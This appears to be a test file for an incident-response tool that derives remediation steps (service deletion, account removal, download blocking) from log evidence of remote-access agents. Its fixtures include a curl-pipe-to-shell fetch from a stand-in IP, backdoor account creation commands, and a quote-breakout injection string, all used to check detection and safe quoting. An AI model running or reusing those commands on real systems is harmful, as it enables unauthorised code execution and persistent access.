// The remediation block: each action read off the evidence, merged across records, with a command
// only when the artefact's name quotes safely; accounts and download sources from shells' command
// lines; nothing to remove for an approved tool that behaved as approved.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Evidence, Finding } from '../../src/model/finding.ts';
import { remediationFor } from '../../src/model/remediation.ts';
import { fullChain, partialChain } from '../support/findings.ts';

function record(line: number, facts: Partial<Evidence>): Evidence {
  return { time: 0, summary: 'x', src: { file: 'h.log', format: 'auditd', line }, ...facts };
}

function withControl(f: Finding, commandLines: string[]): Finding {
  f.steps[3].evidence = commandLines.map((c, i) =>
    record(100 + i, { process: { pid: 900 + i, image: '/bin/sh', commandLine: c } }),
  );
  return f;
}

describe('remediationFor', () => {
  it('merges the records of one service into one action that names them all', () => {
    const f = fullChain();
    f.steps[1].evidence = [
      record(3, { entry: { mechanism: 'service', name: 'AnyDesk', command: 'x' } }),
      record(9, {
        registry: { key: 'HKLM\\System\\CurrentControlSet\\Services\\AnyDesk\\ImagePath' },
        entry: {
          mechanism: 'service',
          name: 'anydesk',
          location: 'HKLM\\System\\CurrentControlSet\\Services\\AnyDesk\\ImagePath',
        },
      }),
    ];
    const [svc] = remediationFor(f).filter((a) => a.kind === 'persistence');
    assert.equal(svc.target, 'AnyDesk');
    assert.equal(svc.location, 'HKLM\\System\\CurrentControlSet\\Services\\AnyDesk\\ImagePath');
    assert.equal(svc.command, 'sc.exe stop "AnyDesk" & sc.exe delete "AnyDesk"');
    assert.deepEqual(svc.evidence, ['h.log:3', 'h.log:9']);
  });

  it('offers no command for a name that could break out of its quotes', () => {
    const f = fullChain();
    f.steps[1].evidence = [record(3, { entry: { mechanism: 'service', name: 'x" & calc & "' } })];
    const [svc] = remediationFor(f).filter((a) => a.kind === 'persistence');
    assert.equal(svc.command, undefined);
    assert.match(svc.text, /Stop and delete the service x" & calc & "/);
  });

  it('quotes POSIX paths with single quotes, whatever they hold', () => {
    const f = partialChain();
    f.agent.images = ["/tmp/it's here"];
    f.steps[0].evidence = [record(1, { process: { pid: 7, image: "/tmp/it's here" } })];
    const bin = remediationFor(f).find((a) => a.kind === 'binary')!;
    assert.equal(bin.command, `rm -f '/tmp/it'\\''s here'`);
  });

  it('does not tell anyone to delete a system binary', () => {
    const f = partialChain();
    f.agent.images = ['/usr/bin/python3.11'];
    f.steps[0].evidence = [record(1, { process: { pid: 7, image: '/usr/bin/python3.11' } })];
    const bin = remediationFor(f).find((a) => a.kind === 'binary')!;
    assert.match(bin.text, /^Do not delete \/usr\/bin\/python3\.11/);
    assert.equal(bin.command, undefined);
  });

  it('finds accounts and download sources in the shells the agent ran', () => {
    const f = withControl(partialChain(), [
      'useradd -m -s /bin/bash -G sudo backdoor',
      'sh -c "curl -fsSL http://198.51.100.7/x.sh | sh"',
      'net user helpdesk P@ss1 /add',
      'dscl . -create /Users/svc_mac',
    ]);
    const acts = remediationFor(f);
    assert.deepEqual(
      acts.filter((a) => a.kind === 'account').map((a) => a.target),
      ['backdoor', 'helpdesk', 'svc_mac'],
    );
    assert.deepEqual(
      acts.filter((a) => a.kind === 'download').map((a) => a.target),
      ['http://198.51.100.7/x.sh'],
    );
    assert.equal(acts.find((a) => a.target === 'backdoor')!.command, `userdel -r 'backdoor'`);
  });

  it('blocks destinations with the name the record carries', () => {
    const f = fullChain();
    f.steps[2].evidence = [record(6, { endpoint: { ip: '203.0.113.45', port: 443, name: 'relay.example' } })];
    const d = remediationFor(f).find((a) => a.kind === 'destination')!;
    assert.deepEqual([d.target, d.port, d.domain], ['203.0.113.45', 443, 'relay.example']);
  });

  it('has nothing to remove for an approved tool that behaved as approved', () => {
    assert.deepEqual(remediationFor(fullChain({ status: 'suppressed' })), []);
  });

  it('stays linear on hostile command lines (the timeout catches a hang)', { timeout: 20_000 }, () => {
    const long = `useradd ${'-x '.repeat(20_000)}${'a'.repeat(50_000)} net user ${'"'.repeat(30_000)}`;
    const f = withControl(partialChain(), [long]);
    assert.ok(Array.isArray(remediationFor(f)));
  });
});
